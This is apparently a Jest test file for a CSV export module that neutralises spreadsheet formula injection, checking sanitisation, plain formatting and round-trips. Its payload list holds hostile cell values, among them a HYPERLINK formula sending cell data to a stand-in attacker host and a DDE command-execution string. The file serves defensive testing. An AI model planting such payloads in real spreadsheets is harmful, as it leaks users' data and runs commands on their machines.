import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvRecord, fromCell } from './csv.ts';

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"look")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '","=1+1',
  "'=1+1",
] as const;
const read = (text: string) => parse(text, { record_delimiter: '\r\n' }) as readonly (readonly string[])[];

describe('a cell', () => {
  it.each(PAYLOADS)('%j is inert in a spreadsheet, and comes back as it was', (payload) => {
    const [record] = read(csvRecord(['decision', payload, 'end']));
    expect(record).toHaveLength(3);
    expect(record?.[1]).toMatch(/^'|^[^=+\-@\t\r\n\0＝＋－＠ ]/u);
    expect(fromCell(record?.[1] ?? '')).toBe(payload);
  });

  it('that is a number, a truth or nothing is written as it is', () => {
    expect(csvRecord([-1, 0, true, null, 'plain', 'with, comma', 'with "quotes"'])).toBe(
      '-1,0,true,,plain,"with, comma","with ""quotes"""\r\n',
    );
  });

  it('of any text whatever comes back as it was', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 6 }), (texts) => {
        const [record] = read(csvRecord(texts));
        expect(record?.map(fromCell)).toEqual(texts);
      }),
    );
  });
});
